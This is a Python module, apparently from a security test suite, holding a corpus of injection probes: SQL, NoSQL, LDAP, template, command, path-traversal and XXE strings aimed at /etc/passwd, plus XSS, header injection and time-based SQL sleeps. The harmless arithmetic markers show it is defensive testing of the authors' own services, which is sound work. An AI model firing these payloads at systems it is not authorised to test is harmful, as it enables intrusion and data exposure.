"""Texts that attackers send: what each would do if somebody evaluated it, and how that would show.

What lives here: the corpus. What must not: where it is put, and who sends it. Nothing in it does harm: statements
only compare, products only multiply, addresses are our own listener's.
"""

from dataclasses import dataclass

PROOF = "9801617"
"""1339 times 7320 + 137: nobody answers that by chance, and it is not in what is sent."""

CALLBACK = "{callback}"
"""Where a listener of our own is put in."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, what it is, and what an answer holds if it was evaluated."""

    kind: str
    text: str
    shows: str = ""


SUM = "1339*7320+137"

PAYLOADS = (
    Payload("SQL", "zzq'\"`;--"),
    Payload("SQL", "zzq') UNION SELECT NULL--"),
    Payload("NoSQL", '{"$gt": ""}'),
    Payload("NoSQL", "zzq'||'1'=='1"),
    Payload("a template", "{{" + SUM + "}}", PROOF),
    Payload("a template", "${" + SUM + "}", PROOF),
    Payload("a template", "<%= " + SUM + " %>", PROOF),
    Payload("a format", "{0.__class__.__mro__}%s%n%(x)s", "<class 'object'>"),
    Payload("a command", "zzq; echo $((" + SUM + "))", PROOF),
    Payload("a command", "zzq|expr 1339 \\* 7320 + 137 `expr 1339 \\* 7320 + 137`", PROOF),
    Payload("a path", "../../../../../../../../etc/passwd", "root:x:0:0"),
    Payload("a path", "....//....//....//etc/passwd\0.txt", "root:x:0:0"),
    Payload("a header", "zzq\r\nX-Injected: yes\r\n\r\n<b>zzq</b>"),
    Payload("NUL", "zz\0q"),
    Payload("letters", "zzq\u202e\ufeff\u0000\U0001f4a3\u0130\ufb01"),
    Payload("LDAP", "*)(uid=*))(|(uid=*"),
    Payload(
        "XML",
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "root:x:0:0",
    ),
    Payload("HTML", "<script>zzq(1)</script><img src=x onerror=zzq(1)>"),
    Payload("an address", CALLBACK),
    Payload("much", "zzq" * 3_000),
    Payload("a number", "9" * 400),
)
"""What is put into every place that takes a text."""

FEW = (
    Payload("SQL", "zzq'\"`;--"),
    Payload("NUL", "zz\0q"),
    Payload("an address", CALLBACK),
    Payload("a number", "9" * 400),
)
"""What is put into places that take a word of a list, a number or an id."""

BASIC = tuple(
    each
    for at, each in enumerate(PAYLOADS)
    if each.kind
    not in {before.kind for before in PAYLOADS[:at]}
    | {"much", "LDAP", "XML", "a number", "NoSQL", "a format"}
)
"""One of each kind, for what is the same in every service of ours."""

PAIRS = (
    ("zzq' OR 'zzqa'='zzqa", "zzq' OR 'zzqa'='zzqb"),
    ("zzq' OR 'zzqa'='zzqa'-- ", "zzq' OR 'zzqa'='zzqb'-- "),
    ("zzq%' OR 'zzqa' LIKE 'zzqa%", "zzq%' OR 'zzqa' LIKE 'zzqb%"),
    ("-1 OR 918273=918273", "-1 OR 918273=918274"),
    ("zzq') OR ('zzqa'='zzqa", "zzq') OR ('zzqa'='zzqb"),
)
"""Two conditions of which one is true: answers that differ mean that a database has evaluated them."""

SLEEP = 1.5
"""Seconds that a database is asked to wait."""

SLEEPS = {
    "postgresql": ("zzq'||(SELECT CAST(pg_sleep({0}) AS text))||'", "-1 OR 1=(SELECT 1 FROM pg_sleep({0}))"),
    "mariadb": ("zzq' OR SLEEP({0})-- ", "-1 OR SLEEP({0})"),
}
"""How each database is asked to wait; SQLite cannot."""
